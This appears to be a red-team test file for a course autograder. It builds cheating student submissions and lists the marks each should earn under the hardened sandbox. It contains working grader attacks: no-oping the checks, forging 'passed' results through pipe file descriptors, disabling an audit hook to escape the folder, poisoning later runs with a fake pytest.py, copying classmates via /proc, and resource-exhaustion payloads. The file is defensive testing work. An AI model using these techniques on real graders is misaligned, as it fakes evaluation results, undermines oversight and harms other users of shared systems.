"""Submissions that try to cheat, for the red-team tests: what a determined student would hand in.

Each attack is a folder built from the stubs (or the solutions) with a few
lines added. Graded without isolation, most of them earned full marks; graded
as ``make grade-all`` grades them now (bubblewrap, a fresh copy per lesson,
verdicts through the grader's own pipe, control checks), each must earn only
what its honest part earns. ``EXPECTED`` says what that is.

The attack code is deliberately written the way a student who read the
grader's source would write it: dynamic imports that the tamper scan cannot
see, ``gc`` to reach the checks, file descriptors found in ``/proc/self/fd``.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

from course.authoring import stubs
from course.bench import attack_code
from course.lessons import SOLUTIONS_DIR, all_lessons, get_lesson

# Run at import of lesson 1's file: find the grader's solutions/ and run the reference instead.
RUN_THE_REFERENCE = """
import importlib as _i
from pathlib import Path as _P
_solutions = _P(_i.import_module("cour" + "se.less" + "ons").SOLUTIONS_DIR)
exec(compile((_solutions / "{path}").read_text(), "{path}", "exec"), globals())
"""

# Turn every check (and the expect they use) in every loaded check module into a no-op.
NO_OP_THE_CHECKS = """
import gc as _gc, sys as _s, types as _t
def _nothing(*args, **kwargs):
    return None
for _name, _module in list(getattr(_s, "mod" + "ules").items()):
    if _name.startswith(("test_lesson", "course.checking")) or "test_lesson" in _name:
        for _key, _value in list(vars(_module).items()):
            if isinstance(_value, _t.FunctionType) and (_key.startswith("test_") or _key == "expect"):
                _value.__code__ = _nothing.__code__
"""

# Write forged "passed" results to every pipe this process holds, at exit (after the real ones).
FORGE_AT_EXIT = """
import atexit as _a, json as _j, os as _o
def _forge():
    for _fd in _o.listdir("/proc/self/fd"):
        try:
            if _o.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
                for _n in ("test_returns_classic_tuple", "test_training_arrays", \
"test_test_arrays", "test_class_counts"):
                    _o.write(int(_fd), (_j.dumps({"type": "check", "nodeid": f"test_lesson01.py::{_n}", \
"status": "passed"}) + "\\n").encode())
        except OSError:
            pass
_a.register(_forge)
"""

# Switch the audit hook off through its closure, then write outside the submission's folder.
HOOK_OFF_THEN_ESCAPE = """
import gc as _gc
for _f in _gc.get_objects():
    if getattr(_f, "__name__", "") == "hook" and getattr(_f, "__closure__", None):
        for _cell in _f.__closure__:
            try:
                if hasattr(_cell.cell_contents, "on"):
                    _cell.cell_contents.on = True
            except ValueError:
                pass
try:
    open({target!r}, "w").write("escaped")
except OSError:
    pass
"""

# Poison the classmates graded after it: a pytest.py wherever later runs might import it from.
POISON = """
import os as _o
for _folder in (_o.getcwd(), _o.path.dirname(__file__), _o.path.dirname(_o.path.dirname(__file__))):
    try:
        open(_o.path.join(_folder, "pytest.py"), "w").write("raise SystemExit(0)\\n")
    except OSError:
        pass
"""

# Find classmates (or the class folder) through /proc, and run a complete classmate's lesson 1 instead.
COPY_A_CLASSMATE = """
import os as _o, re as _r
from pathlib import Path as _P
_found = None
for _pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
    try:
        _words = _P(f"/proc/{_pid}/cmdline").read_bytes().split(b"\\0")
    except OSError:
        continue
    for _word in _words:
        _match = _r.search(rb"SUBMISSIONS=(\\S+)", _word) or (_r.search(rb"^(/\\S+/class\\S*)$", _word))
        if _match:
            for _other in _P(_match.group(1).decode()).glob("*/01_load_data/load_data.py"):
                if "raise NotImplementedError" not in _other.read_text():
                    _found = _other
if _found is not None:
    exec(compile(_found.read_text(), str(_found), "exec"), globals())
"""

# Read the hidden checks, from wherever the grader keeps them.
READ_THE_HIDDEN_CHECKS = """
import glob as _g, os as _o
_places = [_o.getcwd(), _o.path.dirname(_o.getcwd()), "/tmp", "/tmp/*", "/tmp/*/*", _o.path.expanduser("~/..")]
_hidden = set()
for _place in _places:
    try:
        _hidden |= set(_g.glob(_o.path.join(_place, "**", "test_lesson*hidden*.py"), recursive=True))
    except (RecursionError, OSError):
        continue
_hidden = sorted(_hidden)
if _hidden:
    raise RuntimeError("HIDDEN CHECKS FOUND: " + " | ".join(open(_p).read()[:300] for _p in _hidden))
"""

# An endless loop at import that the per-check alarm cannot interrupt (C code, no bytecode boundary).
C_LEVEL_LOOP = """
import re as _re
_re.match(r"(a|aa)*c", "a" * 60)
"""

# Hold 3 GB of memory.
HOLD_MEMORY = """
_blob = bytearray(3 * 1024 ** 3)
"""

# A 10 MB error message.
HUGE_MESSAGE = """
def preprocess_images(images):
    raise ValueError("x" * 10_000_000)
"""


def _tree(destination: Path, solved: tuple[int, ...]) -> Path:
    stubs.write_tree(destination)
    for lesson_id in solved:
        lesson = get_lesson(lesson_id)
        shutil.copy(lesson.file_in(SOLUTIONS_DIR), lesson.file_in(destination))
    return destination


def _append(tree: Path, lesson_id: int, code: str) -> None:
    path = get_lesson(lesson_id).file_in(tree)
    path.write_text(path.read_text() + "\n" + code)


def _prepend(tree: Path, lesson_id: int, code: str) -> None:
    path = get_lesson(lesson_id).file_in(tree)
    source = path.read_text()
    cut = source.index("\nimport ")  # after the module docstring
    path.write_text(source[:cut] + "\n" + code + source[cut:])


def build(kind: str, destination: Path, escape_target: Path | None = None) -> Path:
    """Write the submission of attack ``kind`` (see ATTACKS) to ``destination``."""
    if kind == "symlinks_to_solutions":
        destination.mkdir(parents=True)
        for lesson_id in (1, 2):
            lesson = get_lesson(lesson_id)
            (destination / lesson.dir).mkdir()
            lesson.file_in(destination).symlink_to(lesson.file_in(SOLUTIONS_DIR))
    elif kind == "runs_the_reference":
        tree = _tree(destination, ())
        for lesson_id in (1, 2):
            lesson = get_lesson(lesson_id)
            _append(tree, lesson_id, RUN_THE_REFERENCE.format(path=f"{lesson.dir}/{lesson.stub}"))
    elif kind == "no_ops_the_checks":
        tree = _tree(destination, ())
        for lesson_id in (1, 2):
            _append(tree, lesson_id, NO_OP_THE_CHECKS)
    elif kind == "forges_results_at_exit":
        _append(_tree(destination, ()), 1, FORGE_AT_EXIT)
    elif kind == "hook_off_then_escape":
        _append(
            _tree(destination, ()),
            1,
            HOOK_OFF_THEN_ESCAPE.format(target=str(escape_target or "/tmp/course-escape.txt")),
        )
    elif kind == "poisoner":
        _append(_tree(destination, ()), 1, POISON)
    elif kind == "copies_a_classmate":
        _append(_tree(destination, ()), 1, COPY_A_CLASSMATE)
    elif kind == "reads_hidden_checks":
        _append(_tree(destination, (1, 2)), 1, READ_THE_HIDDEN_CHECKS)
    elif kind == "c_loop_at_import":
        _prepend(_tree(destination, (1, 2, 3)), 2, C_LEVEL_LOOP)
    elif kind == "holds_memory":
        _prepend(_tree(destination, (1, 2)), 1, HOLD_MEMORY)
    elif kind == "huge_message":
        _append(_tree(destination, (1, 2)), 2, HUGE_MESSAGE)
    elif kind in SECOND_TEAM:
        SECOND_TEAM[kind](destination, escape_target)
    else:
        raise ValueError(f"unknown attack: {kind}")
    return destination


# attack -> {lesson: points it should get out of that lesson's points} when lessons 1-3 are graded
EXPECTED = {
    "symlinks_to_solutions": {1: 0, 2: 0},
    "runs_the_reference": {1: 0, 2: 0},
    "no_ops_the_checks": {1: 0, 2: 0},
    "forges_results_at_exit": {1: 0},
    "hook_off_then_escape": {1: 0, 2: 0},
    "poisoner": {1: 0, 2: 0},
    "copies_a_classmate": {1: 0},
    "reads_hidden_checks": {1: 10, 2: 10},  # finds nothing: no worker ever sees a check, public or hidden
    "c_loop_at_import": {1: 10, 2: 0, 3: 15},
    "holds_memory": {1: 0, 2: 10},
    "huge_message": {1: 10},
}


def _forges_everything(destination: Path, _escape) -> None:
    tree = _tree(destination, ())
    for lesson in all_lessons():
        _prepend(tree, lesson.id, attack_code.FORGE_EVERYTHING)


def _deep_folders(destination: Path, _escape) -> None:
    tree = _tree(destination, (1,))
    folder = tree / "01_load_data"
    for _ in range(1200):  # one folder at a time (os.makedirs recurses, and gives up long before 1,200)
        folder = folder / "d"
        folder.mkdir()


def _deep_expression(destination: Path, _escape) -> None:
    _prepend(_tree(destination, (1, 2)), 2, attack_code.deep_expression())


def _odd_link_name(destination: Path, _escape) -> None:
    tree = _tree(destination, (1,))
    os.symlink(b"/nowhere/\xff", os.fsencode(tree / "01_load_data") + b"/\xff\xfe-notes.py")


def _big_links_in_its_checks(destination: Path, escape_target) -> None:
    tree = _tree(destination / "lessons", (1,))
    checks = tree.parent / "checks"
    checks.mkdir()
    big = (escape_target or destination).parent / "big-file.bin"
    with open(big, "wb") as handle:
        handle.truncate(2 * 1024**3)  # 2 GiB, sparse
    for name, target in (
        ("conftest.py", big),
        ("zero.py", Path("/dev/zero")),
        ("pagemap.py", Path("/proc/self/pagemap")),
    ):
        (checks / name).symlink_to(target)
    (checks / "root").symlink_to("/")


def _at_import(code: str, solved: tuple[int, ...], lesson_id: int):
    def build_it(destination: Path, _escape) -> None:
        _prepend(_tree(destination, solved), lesson_id, code)

    return build_it


# The second red team (issues 18 and 19): forging from the worker, and taking what a sandbox can take.
SECOND_TEAM = {
    "forges_everything": _forges_everything,
    "deep_folders": _deep_folders,
    "deep_expression": _deep_expression,
    "odd_link_name": _odd_link_name,
    "big_links_in_its_checks": _big_links_in_its_checks,
    "memfd_hog": _at_import(attack_code.MEMFD_HOG, (1, 2), 1),
    "shm_hog": _at_import(attack_code.SHM_HOG, (1, 2), 1),
    "disk_hog": _at_import(attack_code.DISK_HOG, (1, 2), 1),
    "thread_bomb": _at_import(attack_code.THREAD_BOMB, (1, 2), 1),
    "immortal_thread": _at_import(attack_code.IMMORTAL_THREAD, (1, 2), 1),
}
EXPECTED.update(
    {
        "forges_everything": {1: 0, 2: 0, 3: 0},
        "deep_folders": {1: 10},
        "deep_expression": {1: 10, 2: 0},
        "odd_link_name": {1: 10},
        "big_links_in_its_checks": {1: 10},
        "memfd_hog": {1: 0, 2: 10},
        "shm_hog": {1: 0, 2: 10},  # /dev/shm is not its to write: it breaks its own lesson
        "disk_hog": {1: 10, 2: 10},  # the disk is bounded; nothing is gained or broken
        "thread_bomb": {1: 0, 2: 10},  # it breaks its own lesson (its threads take its memory), and no one else's
        "immortal_thread": {1: 10, 2: 10},
    }
)
ATTACKS = tuple(EXPECTED)
